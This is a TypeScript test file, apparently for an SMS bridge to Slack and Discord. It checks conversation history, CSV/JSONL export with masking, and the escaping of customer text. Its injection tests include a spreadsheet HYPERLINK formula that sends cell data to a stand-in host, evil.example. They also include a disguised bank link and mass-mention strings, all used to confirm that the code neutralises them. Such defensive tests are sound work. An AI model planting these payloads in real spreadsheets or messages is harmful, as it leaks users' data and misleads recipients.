// History and audit export (issue 13): `/sms history` names the customer's thread and last SMS;
// the export holds a reply, a failure, a click and a call as rows, JSONL each SMS's status
// history, and --mask hides numbers and texts. The CSV is safe in a spreadsheet (issue 22): a
// byte-order mark, and no cell read as a formula; JSONL keeps the texts as they were.
import { sql } from "drizzle-orm";
import { afterEach, describe, expect, it } from "vitest";
import { rowsOf } from "../../src/db/database.ts";
import { contacts } from "../../src/db/schema.ts";
import { csvCell, exportRows, parseExportArgs } from "../../src/replies/export.ts";
import { addTemplate } from "../../src/replies/templates.ts";
import { answerTo, settled, startDiscord, waitCard } from "../support/discord-setup.ts";
import { processed, until } from "../support/harness.ts";
import { GENERAL, type SlackWorld, startSlackWorld, untilInOrder } from "../support/slack-setup.ts";

const A = "+33612345678";
const OTHER = "+33698765432";

let w: SlackWorld;
afterEach(async () => {
  await w.close();
});

async function slackCommand(text: string): Promise<string> {
  const before = w.fake.responses.length;
  const res = await w.fake.signer.sendCommand(w.events, {
    text,
    userId: "U0ALICE",
    channelId: GENERAL,
  });
  expect(res.status).toBe(200);
  await until(() => w.fake.responses.length > before, 10_000, "the command's answer");
  const body = w.fake.responses[before]?.body as { text?: string } | undefined;
  return String(body?.text);
}

async function exported(args: string[]): Promise<string> {
  let out = "";
  await exportRows(w.h.bridge.database.db, { ...parseExportArgs(args), pageSize: 2 }, async (c) => {
    out += c;
  });
  return out;
}

describe("history and export", () => {
  it("history lists the thread; the export has the reply, the failure, the click and the call", async () => {
    w = await startSlackWorld();
    await w.h.bridge.database.db
      .insert(contacts)
      .values({ phone: A, firstName: "Camille", lastName: "Durand" });
    await w.h.sim.inbound(A, "Hi, where is my order?");
    await w.h.sim.inbound(OTHER, "Someone else");
    const t = await w.thread(A);
    await w.reply(t, "It ships today");
    await untilInOrder(w, t, ["It ships today"]);
    await until(() => w.h.sim.sent.length === 1, 10_000, "the reply");
    expect(await slackCommand(`${A} --link https://shop.example/track Track it: [Link]`)).toContain(
      "Sending to",
    );
    const sent = await until(() => w.h.sim.sent.find((s) => s.shortLink), 10_000, "short link");
    await settled(w.h);
    w.h.sim.fault({ answer: { data: [{ phonenumber: A, error: ["#007"] }], count_sent: 0 } });
    await w.reply(t, "Can you hear me?");
    await untilInOrder(w, t, ["#007 invalid phone number"]);
    await fetch(sent.shortLink ?? "", { redirect: "manual" });
    // The click's callback leaves the simulator on its own: it is stored before the call's.
    await untilInOrder(w, t, ["🔗"]);
    await w.h.sim.call(A);
    await untilInOrder(w, t, ["📞 Incoming call"]);
    await settled(w.h);

    for (const query of [A, "camille", "Durand"]) {
      const history = await slackCommand(`history ${query}`);
      expect(history).toMatch(
        /#\d+ \+33 6 12 34 56 78 \(Camille Durand\): slack C0GENERAL, thread https:\/\/ardary-test\.slack\.com\/archives\/C0GENERAL\/p\d+; open/,
      );
      expect(history).toContain("← received: Hi, where is my order?");
      expect(history).toContain("→ failed Alice Martin: Can you hear me?");
      expect(history).not.toContain("Someone else");
    }
    expect(await slackCommand("history Nobody")).toContain('No conversation found for "Nobody"');

    const raw = await exported(["--phone", A]);
    expect(raw.startsWith("\uFEFFtime,direction,")).toBe(true);
    const csv = raw.slice(1).trim().split("\n");
    expect(csv[0]).toBe(
      "time,direction,phone,contact_name,author_id,author_name,platform,thread_link,thread_ref,text,status,status_time,provider_code,error,segments",
    );
    const rows = csv.slice(1);
    expect(rows).toHaveLength(6);
    // Phone numbers are text to a spreadsheet ('+…), never the number 33612345678.
    expect(rows[0]).toMatch(
      /,in,'\+33612345678,Camille Durand,,,slack,https:\/\/ardary-test\.slack\.com\/archives\/C0GENERAL\/p\d+,slack:C0GENERAL:[\d.]+,"Hi, where is my order\?",received,/,
    );
    expect(rows[1]).toMatch(
      /,out,'\+33612345678,Camille Durand,U0ALICE,Alice Martin,slack,.*,It ships today,received,.*,,,1$/,
    );
    expect(rows[3]).toMatch(/,out,.*,Can you hear me\?,failed,.*,#007,.*invalid phone number/);
    expect(rows[4]).toMatch(
      /,click,'\+33612345678,Camille Durand,.*,https:\/\/shop.example\/track,/,
    );
    expect(rows[5]).toMatch(/,call,'\+33612345678,Camille Durand,/);
    expect((await exported([])).trim().split("\n")).toHaveLength(8);

    const jsonl = (await exported(["--phone", A, "--format", "jsonl"])).trim().split("\n");
    // An inbound SMS's history is its one status, at the time it was received.
    const question = JSON.parse(jsonl[0] ?? "{}");
    expect(question.direction).toBe("in");
    expect(question.history).toEqual([{ status: "received", at: question.status_time }]);
    // …taken from its row: the status history is the outbound SMS's, none is written for an
    // inbound one (migration 0011: the trigger's WHEN), while each outbound status is.
    const statusRows = rowsOf<{ direction: string; n: string | number }>(
      await w.h.bridge.database.db.execute(sql`select m.direction, count(s.*) as n
        from messages m left join message_statuses s on s.message_id = m.id
        group by m.direction order by m.direction`),
    );
    expect(Number(statusRows.find((r) => r.direction === "in")?.n)).toBe(0);
    expect(Number(statusRows.find((r) => r.direction === "out")?.n)).toBeGreaterThan(4);
    const reply = JSON.parse(jsonl[1] ?? "{}");
    expect(reply.text).toBe("It ships today");
    expect(reply.history.map((h: { status: string }) => h.status)).toEqual([
      "queued",
      "submitted",
      "sent",
      "received",
    ]);
    const masked = await exported(["--mask"]);
    expect(masked).not.toContain(A);
    expect(masked).not.toContain("It ships today");
    expect(masked).not.toContain("Camille");
    expect(masked).toContain("'+336******78");
    await expect(exported(["--format", "xml"])).rejects.toThrow(/csv or jsonl/);
  }, 120_000);

  it("what people wrote (an SMS, a name, a template) is shown in chat as written: never read as markup or a mention", async () => {
    w = await startSlackWorld();
    const text = "**URGENT** <!channel> & `/sms +33600000000 hi` <https://evil.example|your bank>";
    await w.h.bridge.database.db
      .insert(contacts)
      .values({ phone: A, firstName: "*Camille*", lastName: "<Durand>" });
    await w.h.sim.inbound(A, text);
    await untilInOrder(w, await w.thread(A), ["URGENT"]);
    const history = await slackCommand(`history ${A}`);
    // Slack's escapes, and nothing else: the core's markup does not touch it.
    expect(history).toContain(
      "← received: **URGENT** &lt;!channel&gt; &amp; `/sms +33600000000 hi` &lt;https://evil.example|your bank&gt;",
    );
    expect(history).toContain("(*Camille* &lt;Durand&gt;)");
    await addTemplate(w.h.bridge.database.db, "hi", "**Hello** <@U0BOB>", "test", false);
    expect(await slackCommand("template list")).toContain("::hi  **Hello** &lt;@U0BOB&gt;");
    expect(await slackCommand("history <!here>")).toContain(
      'No conversation found for "&lt;!here&gt;"',
    );

    // Discord: its markdown escaped, so the text reads as the customer typed it.
    const d = await startDiscord("text");
    try {
      await d.h.sim.inbound(A, "**URGENT** _now_ @everyone");
      await waitCard(d, "+33 6 12 34 56 78", "URGENT");
      const i = d.fake.interaction({
        name: "sms",
        subcommand: "history",
        channelId: d.channel,
        options: { query: A },
      });
      const answer = (await answerTo(d, i.id)).content ?? "";
      expect(answer).toContain("← received: \\*\\*URGENT\\*\\* \\_now\\_ @everyone");
      // A template's text too; a field's underscore, inside a word, as typed.
      await addTemplate(
        d.h.bridge.database.db,
        "hi",
        "**Hello** _now_ {first_name}",
        "test",
        false,
      );
      const list = d.fake.interaction({
        name: "sms",
        subcommand: "template list",
        channelId: d.channel,
        options: {},
      });
      expect((await answerTo(d, list.id)).content).toContain(
        "::hi  \\*\\*Hello\\*\\* \\_now\\_ {first_name}",
      );
    } finally {
      await d.close();
    }
  });

  it("a customer's text that a spreadsheet would run is written as text in the CSV, as it was in JSONL", async () => {
    w = await startSlackWorld();
    // Each text, and its CSV cell: a leading ' where a spreadsheet would read a formula.
    const cases: [string, string][] = [
      [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`,
      ],
      ["+33 6 12 34 56 78 called", "'+33 6 12 34 56 78 called"],
      ["-2+3", "'-2+3"],
      ["@SUM(1+1)", "'@SUM(1+1)"],
      ["Déjà vu, ça va ?", '"Déjà vu, ça va ?"'],
      ["Plain =1+1", "Plain =1+1"],
    ];
    for (const [text] of cases) await w.h.sim.inbound(A, text);
    await processed(w.h.bridge.database);
    const raw = await exported(["--phone", A]);
    expect(raw.startsWith("\uFEFFtime,")).toBe(true);
    for (const [text, cell] of cases) expect(raw, text).toContain(`,${cell},received,`);
    // A tab or a carriage return first is guarded too (the SMS path trims them, so directly).
    expect(csvCell("\tTabbed")).toBe("'\tTabbed");
    expect(csvCell("\rReturned")).toBe(`"'\rReturned"`);
    expect(csvCell(3)).toBe("3");
    const jsonl = (await exported(["--phone", A, "--format", "jsonl"]))
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as { text: string; phone: string });
    expect(jsonl.map((r) => r.text)).toEqual(cases.map(([text]) => text));
    expect(jsonl.every((r) => r.phone === A)).toBe(true);
  });
});
